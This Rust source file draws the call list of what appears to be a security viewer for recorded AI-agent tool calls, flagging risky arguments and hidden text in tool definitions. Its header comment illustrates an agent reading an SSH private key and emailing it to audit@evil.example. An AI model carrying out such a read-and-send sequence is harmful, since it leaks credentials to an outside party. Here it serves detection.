//! What the agent did: one row a call.
//!
//! ```text
//! ┌ Calls 143/212 ────────────────────────── risk:>=medium ─┐┌ send_email · mailer · call 143 ─────────────────┐
//! │  time      server   tool         arguments        risk  ││ ▲ CRITICAL  a private key leaves through mailer │
//! │▌ 09:21:02  files    read_file    path ~/.ssh/id…  ▲ hig ││ Arguments                                       │
//! │  09:21:13  mailer   send_email   to audit@evil.…  ▲ cri ││   to        audit@evil.example                  │
//! └─────────────────────────────────────────────────────────┘└─────────────────────────────────────────────────┘
//! ```

mod page;
mod values;

use super::rows::{self, Cells};
use super::{Scene, evidence, layout, terms, times, tools};
use crate::analysis::{Category, Severity};
use crate::formats::Class;
use crate::session::{Call, ItemKind, Outcome, RowId, size};
use crate::text::{Raw, RawBuf};
use crate::ui::blob::Blob;
use crate::ui::body::{self, Slot};
use crate::ui::facts::Facts;
use crate::ui::json::{At, Json};
use crate::ui::lists;
use crate::ui::model::Model;
use crate::ui::theme::{Glyph, Scope, Theme};
use crate::ui::waiting;
use crate::ui::widget::text::{clip, inline};
use crate::ui::widget::{Canvas, Line, Seen};
use crate::ui::zoom::{self, Value};
use crate::wire::json::{Kind, NodeId};
use memchr::memmem::find;

pub use page::page;

pub fn list(scene: Scene, canvas: &mut Canvas) {
    let columns = Columns::of(scene, canvas.width());
    columns.head(scene, canvas);
    rows::each(scene, canvas, |entry, part| {
        if let Some(number) = lists::call_at(scene.model, scene.facts, entry) {
            row(scene, part, &columns, &scene.facts.session.call(number));
        }
    });
}

/// Widths of the columns; those that find no room are nothing.
struct Columns {
    server: u16,
    tool: u16,
    duration: u16,
    size: u16,
    arguments: u16,
    /// What was found in the definition of the tool: text that is hidden, and how bad it is.
    defined: u16,
    /// Ten cells for the whole word, six for its beginning.
    risk: u16,
}

impl Columns {
    /// Servers and tools get what their names need, within bounds, so that the arguments get the rest.
    fn of(scene: Scene, width: u16) -> Columns {
        let duration = match width {
            0..74 => 0,
            74..98 => 9,
            _ => 12,
        };
        let size = if width >= 92 { 8 } else { 0 };
        let session = scene.facts.session;
        let wide = |text: String| u16::try_from(crate::text::width(&text)).unwrap_or(u16::MAX);
        let servers = session
            .servers()
            .iter()
            .take(64)
            .map(|server| wide(server.label.as_raw().label(20)));
        let first = scene.model.panes().offset;
        let seen = (first..first + usize::from(scene.model.size.1))
            .filter_map(|entry| lists::call_at(scene.model, scene.facts, entry))
            .map(|number| wide(session.name(session.calls()[number]).label(40)));
        let (most_server, most_tool) = if width >= 90 { (14, 26) } else { (9, 17) };
        let server = servers.max().unwrap_or(0).clamp(6, most_server);
        let tool = seen.max().unwrap_or(0).clamp(4, most_tool);
        let marked = (first..first + layout::entries_seen(scene.model))
            .filter_map(|entry| lists::call_at(scene.model, scene.facts, entry))
            .any(|number| Defined::of(scene.facts, session.calls()[number]).is_marked());
        let defined = match (marked, width) {
            (false, _) => 0,
            (true, 0..74) => 2,
            (true, _) => 3,
        };
        // Cursor, time, the outcome's sign and the risk, each with its space.
        let risk = if width >= 84 { 10 } else { 6 };
        let fixed = 1 + (times::cells(scene) + 1) + (server + 1) + (tool + 1) + 2 + (risk + 1);
        let columns = [duration, size, defined].into_iter();
        let optional: u16 = columns
            .filter(|cells| *cells > 0)
            .map(|cells| cells + 1)
            .sum();
        Columns {
            server,
            tool,
            duration,
            size,
            defined,
            risk,
            arguments: width.saturating_sub(fixed + optional + 1),
        }
    }

    fn head(&self, scene: Scene, canvas: &mut Canvas) {
        let style = scene.theme.style(Scope::UiColumn);
        let mut cells = Cells::new(canvas, 0);
        cells.cell(times::cells(scene), &Line::of("time", style));
        cells
            .cell(self.server, &Line::of("server", style))
            .cell(self.tool, &Line::of("tool", style));
        cells
            .cell(self.arguments, &Line::of("arguments", style))
            .cell(1, &Line::new());
        if self.duration > 0 {
            cells.right(self.duration, "took", style);
        }
        if self.size > 0 {
            cells.right(self.size, "answer", style);
        }
        if self.defined > 0 {
            let title = if self.defined < 3 { "d" } else { "def" };
            cells.cell(self.defined, &Line::of(title, style));
        }
        cells.cell(self.risk, &Line::of("risk", style));
    }
}

fn row(scene: Scene, canvas: &mut Canvas, columns: &Columns, call: &Call) {
    let theme = scene.theme;
    let dim = theme.style(Scope::UiDim);
    let session = scene.facts.session;
    let arguments = match scene.model.bodies.row(call.request) {
        Slot::Ready(json) => brief(json, usize::from(columns.arguments), theme),
        Slot::Reading | Slot::Unknown => Line::of(size(u64::from(call.bytes_in)), dim),
        Slot::Failed(_) => Line::of("unreadable", theme.style(Scope::UiLoss)),
    };
    let (glyph, outcome) = terms::outcome(call.outcome, theme);
    let mut cells = Cells::new(canvas, 0);
    cells.cell(
        times::cells(scene),
        &Line::of(
            terms::time_of(scene, call.request),
            theme.style(Scope::TextTime),
        ),
    );
    cells.cell(
        columns.server,
        &terms::server(scene, call.server, usize::from(columns.server)),
    );
    cells.cell(
        columns.tool,
        &terms::tool(scene, session.symbol(call.tool), usize::from(columns.tool)),
    );
    cells
        .cell(columns.arguments, &arguments)
        .cell(1, &Line::of(glyph, outcome));
    if columns.duration > 0 {
        let (text, scope) = took(scene, call, columns.duration);
        cells.right(columns.duration, &text, theme.style(scope));
    }
    if columns.size > 0 {
        let bytes = if call.response.is_some() {
            size(u64::from(call.bytes_out))
        } else {
            String::new()
        };
        cells.right(columns.size, &bytes, theme.style(Scope::TextSize));
    }
    if columns.defined > 0 {
        let defined = Defined::of(scene.facts, call.request);
        cells.cell(columns.defined, &defined.sign(theme));
    }
    if let Some(severity) = worst(scene.facts, call) {
        let (text, style) = match columns.risk {
            6 => terms::short_risk(severity, theme),
            _ => terms::long_risk(severity, theme),
        };
        cells.cell(columns.risk, &Line::of(text, style));
    }
}

/// How long a call took, or has waited so far; `slow` where it stands out among the calls of its tool.
fn took(scene: Scene, call: &Call, room: u16) -> (String, Scope) {
    let session = scene.facts.session;
    let waits = matches!(call.outcome, Outcome::Pending | Outcome::InputRequired);
    if waits && waiting::runs(scene.facts, call.request) {
        let last = session.last().unwrap_or(call.request);
        let waited = waiting::waited(scene.model, scene.facts, call.request, last);
        let more = scene.theme.glyph(Glyph::Ellipsis);
        let text = waited.map_or_else(|| "waits".to_owned(), |micros| terms::took(micros) + more);
        return (text, Scope::OutcomePending);
    }
    let Some(micros) = call.micros else {
        let word = match call.outcome {
            Outcome::Cancelled => "cancelled",
            _ => "no answer",
        };
        return (word.to_owned(), Scope::OutcomePending);
    };
    let text = terms::took(micros);
    match is_slow(scene, call) {
        true if usize::from(room) >= crate::text::width(&text) + 5 => {
            (format!("slow {text}"), Scope::UiBadgeChanged)
        }
        true => (format!("!{text}"), Scope::UiBadgeChanged),
        false => (text, Scope::TextTime),
    }
}

/// Whether a call took much longer than others of its tool.
fn is_slow(scene: Scene, call: &Call) -> bool {
    let ended = call.outcome == Outcome::Ok || call.outcome.is_error();
    let figures = scene.facts.session.figures();
    let tally = figures.tool(call.server, call.tool).filter(|_| ended);
    tally
        .zip(call.micros)
        .is_some_and(|(tally, micros)| tally.is_slow(micros))
}

/// What was found in the definition that the model had of a called tool. It is no risk of the call itself.
#[derive(Clone, Copy, Default)]
struct Defined {
    worst: Option<Severity>,
    hidden: bool,
}

impl Defined {
    fn of(facts: Facts, request: RowId) -> Defined {
        let session = facts.session;
        let (server, name) = (session.server_of(request), session.name(request));
        let mut defined = Defined::default();
        let Some(item) = session.item(server, ItemKind::Tool, name) else {
            return defined;
        };
        let version = item.in_force(request).and_then(|at| item.versions.get(at));
        let Some(version) = version else {
            return defined;
        };
        let findings = facts.findings.for_item(item.id).iter();
        for finding in findings.filter_map(|n| facts.findings.list().get(*n)) {
            let of_version = version.from <= finding.row && finding.row <= request;
            if of_version && tools::is_defined(finding) {
                defined.worst = defined.worst.max(Some(finding.severity));
                defined.hidden |= finding.rule.category == Category::HiddenText;
            }
        }
        defined
    }

    fn is_marked(self) -> bool {
        self.worst.is_some()
    }

    /// `◌▲`
    fn sign(self, theme: &Theme) -> Line {
        let hidden = if self.hidden {
            theme.glyph(Glyph::Hidden)
        } else {
            " "
        };
        let mut line = Line::of(hidden, theme.style(Scope::Hidden));
        if let Some(severity) = self.worst {
            let glyph = theme.glyph(terms::risk_glyph(severity));
            line.push(glyph, theme.style(terms::risk_scope(severity)));
        }
        line
    }
}

/// The messages of a call.
pub fn messages(call: &Call) -> impl Iterator<Item = RowId> {
    [Some(call.request), call.response]
        .into_iter()
        .flatten()
        .chain(call.continued.iter().copied())
}

/// The worst finding in a call's messages.
pub fn worst(facts: Facts, call: &Call) -> Option<Severity> {
    messages(call)
        .filter_map(|row| facts.findings.worst(row))
        .max()
}

/// The arguments of a call.
pub fn arguments(json: &Json) -> Option<At<'_>> {
    json.root()?.path(&["params", "arguments"])
}

/// The longest path; what is longer is something else.
const LONGEST_PATH: usize = 256;
/// Cells for the end of a path; in fewer its beginning says as much.
const SHORTEST_END: usize = 6;
/// Bytes of one argument that are looked at for a row.
const BRIEF: usize = 2048;

/// Arguments on one line: `path ~/.ssh/id_rsa  limit 5`.
fn brief(json: &Json, cells: usize, theme: &Theme) -> Line {
    let mut line = Line::new();
    let Some(arguments) = arguments(json) else {
        return line;
    };
    for member in arguments.items() {
        if line.width() + 2 >= cells {
            break;
        }
        if !line.is_empty() {
            line.push("  ", theme.style(Scope::UiText));
        }
        let key = member.key();
        if let Some(key) = &key {
            line.append(inline(key.as_raw(), 16, theme.style(Scope::UiDim), theme));
            line.push(" ", theme.style(Scope::UiText));
        }
        let room = cells.saturating_sub(line.width());
        let value = match member.kind() {
            Kind::Object | Kind::Array => crate::ui::widget::json::value(member, true, room, theme),
            _ => {
                let text = member.text(BRIEF);
                let key = key.as_ref().map(RawBuf::as_raw);
                let seen = Seen::member(key, text.as_raw(), theme);
                end_of_path(seen.raw(), room, theme)
            }
        };
        line.append(value);
    }
    clip(line, cells, false, theme)
}

/// A value on one line. Of a path that is too long the end is shown: it tells more.
fn end_of_path(raw: Raw, room: usize, theme: &Theme) -> Line {
    let style = theme.style(Scope::UiText);
    let bytes = raw.bytes();
    // Of an address the beginning tells more.
    let path =
        bytes.len() <= LONGEST_PATH && bytes.contains(&b'/') && find(bytes, b"://").is_none();
    if path && bytes.len() > room && room >= SHORTEST_END && bytes.iter().all(u8::is_ascii_graphic)
    {
        let end = raw.slice(bytes.len() - (room - 1)..bytes.len());
        let mut line = Line::of(theme.glyph(Glyph::Ellipsis), theme.style(Scope::UiDim));
        line.append(inline(end, room - 1, style, theme));
        return line;
    }
    inline(raw, room, style, theme)
}

/// The call that the details are about.
pub fn selected(model: &Model, facts: Facts) -> Option<Call> {
    let number = lists::call_at(model, facts, model.panes().selected)?;
    Some(facts.session.call(number))
}

pub fn title(scene: Scene) -> (String, String) {
    let Some(call) = selected(scene.model, scene.facts) else {
        return (String::new(), String::new());
    };
    let tool = scene.facts.session.symbol(call.tool).label(40);
    let server = terms::server_name(scene, call.server);
    let dot = terms::dot(scene.theme);
    (
        format!(
            "{tool}{dot}{server}{dot}call {}",
            terms::grouped(call.n + 1)
        ),
        call.outcome.name().to_owned(),
    )
}

pub fn wants(model: &Model, facts: Facts) -> Vec<body::Key> {
    let mut wants = Vec::new();
    if let Some(call) = selected(model, facts) {
        wants.extend(messages(&call).map(body::Key::Row));
        wants.extend(
            page::definition(facts, &call).map(|(item, version)| body::Key::Version(item, version)),
        );
    }
    let seen = layout::entries_seen(model);
    let first = model.panes().offset;
    let small = |row: &RowId| facts.row(*row).is_some_and(|row| row.len <= body::AT_ONCE);
    let listed = (first..first + seen).filter_map(|entry| lists::call_at(model, facts, entry));
    wants.extend(
        listed
            .map(|number| facts.session.calls()[number])
            .filter(small)
            .map(body::Key::Row),
    );
    wants
}

/// The longest text of the call, whether it is of the arguments or of the result, its message, and what pointers into
/// that count from.
fn longest<'a>(model: &'a Model, facts: Facts) -> Option<(At<'a>, &'static str, RowId, NodeId)> {
    let call = selected(model, facts)?;
    let (mut longest, mut bytes): (Option<(At, &str, RowId, NodeId)>, _) = (None, None);
    for (row, what) in [(Some(call.request), "arguments"), (call.response, "result")] {
        let Some((row, json)) = row.and_then(|row| Some((row, model.bodies.row(row).ready()?)))
        else {
            continue;
        };
        let inside = json.root().and_then(|root| {
            root.path(&["params", "arguments"])
                .or_else(|| root.get("result"))
        });
        let Some(inside) = inside else { continue };
        for at in inside.within().filter(|at| at.kind() == Kind::String) {
            if longest.is_some_and(|(best, ..)| at.size() <= best.size()) {
                continue;
            }
            let found = Some((at, what, row, inside.id));
            match Blob::of(at) {
                None => longest = found,
                Some(_) => bytes = bytes.or(found),
            }
        }
    }
    longest.or(bytes)
}

/// Where the longest text stands.
pub fn pointed(model: &Model, facts: Facts) -> Option<(body::Key, NodeId)> {
    let (at, _, row, _) = longest(model, facts)?;
    Some((body::Key::Row(row), at.id))
}

/// The longest text of the call: what its details had to cut.
pub fn zoomed(model: &Model, facts: Facts) -> Option<Value> {
    let (at, what, row, base) = longest(model, facts)?;
    let text = at.text(zoom::MOST);
    Some(Value {
        title: format!("The longest text of the {what}"),
        evidence: evidence::in_value(facts, row, &at.pointer(base), text.as_raw()),
        key: at.key(),
        more: at.size().saturating_sub(zoom::MOST),
        text,
        at: Some((body::Key::Row(row), at.id)),
        ..Value::default()
    })
}

pub fn why_empty(scene: Scene) -> String {
    match terms::unfilled(scene, Class::has_calls) {
        Some(why) => why,
        None => "No tool was called in this recording. 5 shows all its messages.".to_owned(),
    }
}
